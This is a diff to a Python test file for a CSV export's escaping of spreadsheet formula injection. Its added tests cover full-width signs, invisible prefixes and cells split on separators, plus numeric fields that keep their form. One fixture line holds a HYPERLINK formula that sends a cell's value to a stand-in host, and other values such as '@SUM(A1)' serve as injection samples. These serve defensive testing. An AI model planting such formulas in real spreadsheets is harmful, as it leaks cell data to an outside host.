@@ -3,6 +3,8 @@
 import csv
 import io
 import json
+import re
+import unicodedata
 from decimal import Decimal
 from zoneinfo import ZoneInfo
 
@@ -20,7 +22,12 @@ ZONE = ZoneInfo("Asia/Shanghai")
 EVIL = '=HYPERLINK("http://x/"&A1)'
 TABLE = json.dumps(
     [
-        {"rowValue": [{"label": "名称", "value": "笔"}, {"label": "价格", "value": "-1.5"}]},
+        {
+            "rowValue": [
+                {"label": "名称", "value": "笔"},
+                {"label": "价格", "value": "-1.5", "componentType": "MoneyField"},
+            ]
+        },
         {"rowValue": [{"label": "名称", "value": "@SUM(A1)"}, {"label": "价格", "value": "2"}]},
     ]
 )
@@ -89,11 +96,15 @@ INVISIBLE = st.text("\u200b\ufeff\u00a0\u3000 \t\r\n\x00\x1f", max_size=3)
 
 @given(INVISIBLE, st.sampled_from("=+-@＝＋－＠﹦﹢﹣﹫−"), st.text())
 def test_no_text_begins_a_formula_whatever_stands_before_it_or_how_wide_it_is(before, sign, after):
-    text = before + sign + after
-    out = escaped(text)
-    if out == text:
-        float(text.rstrip("%").replace(",", ""))
-    assert out in (text, "'" + text)
+    out = escaped(before + sign + after)
+    assert out.replace("'", "") == (before + sign + after).replace("'", "")
+    for cell in re.split(r"[;\t\r\n]", out):  # as another spreadsheet takes it apart
+        begin = unicodedata.normalize("NFKC", "".join(c for c in cell if is_visible(c)))
+        assert not begin.startswith(("=", "+", "-", "@", "−"))
+
+
+def is_visible(character):
+    return character != '"' and unicodedata.category(character)[0] not in "CZ"
 
 
 @pytest.mark.parametrize("text", ["", "事由", "a=b", " x", "'=1"])
@@ -101,9 +112,30 @@ def test_other_text_stays_as_it_is(text):
     assert escaped(text) == text
 
 
-@pytest.mark.parametrize("number", ["-1", "+8613800000000", "-1,234.50", "12%", "-3%"])
-def test_numbers_stay_numbers(number):
-    assert escaped(number) == number
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        (";=1", ";'=1"),
+        ("a; =1", "a;' =1"),
+        ("a\n-1", "a\n'-1"),
+        ('b;"=1";', 'b;\'"=1";'),
+        ("+8613800000000", "'+8613800000000"),
+    ],
+)
+def test_a_text_that_looks_like_a_number_or_begins_another_cell_is_no_formula(text, cell):
+    assert escaped(text) == cell
+
+
+@pytest.mark.parametrize("number", ["-1", "-1,234.50", "12%", "-3%"])
+def test_numbers_of_number_components_stay_numbers(number):
+    assert escaped(number, "number") == escaped(number, "money") == number
+
+
+async def test_every_cell_is_in_quotes(archive):
+    first, *_ = (await as_csv(archive, Filter(["PROC-Y"]))).removeprefix(BOM).splitlines()
+    assert first.startswith('"instance_id","business_id"')
 
 
 @given(st.text())
